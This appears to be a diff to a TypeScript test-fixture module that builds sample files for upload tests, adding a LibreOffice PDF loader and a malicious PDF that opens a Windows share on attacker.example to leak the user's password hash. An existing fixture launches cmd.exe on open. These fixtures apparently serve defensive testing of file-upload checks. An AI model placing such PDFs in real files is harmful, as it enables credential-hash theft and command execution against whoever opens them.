@@ -1,3 +1,4 @@
+import { readFileSync } from "node:fs";
 import { crc32, deflateRawSync, deflateSync } from "node:zlib";
 
 /** A zip archive with uncompressed entries: enough to build real XLSX and ODS files for upload tests. */
@@ -137,6 +138,20 @@ export const pdfWithLaunch = () =>
   Buffer.from(
     "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
   );
+
+/**
+ * A PDF that, as soon as it is opened, goes to a PDF on a Windows share: the reader connects to the attacker's
+ * server and sends its user's password hash. No script, no launch: an `/OpenAction` to a `/GoToR` action.
+ */
+export const pdfCallingHome = () =>
+  Buffer.from(
+    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n" +
+      "2 0 obj<</S/GoToR/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)/D[0/Fit]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
+  );
+
+/** A real export: LibreOffice Writer's PDF of a .docx, tagged, with web links and an opening view. */
+export const libreOfficePdf = () =>
+  readFileSync(new URL("pdf-corpus/libreoffice-writer-docx-tagged-fit-width.pdf", import.meta.url));
 
 /** A PDF that carries another file. */
 export const pdfWithEmbeddedFile = () =>
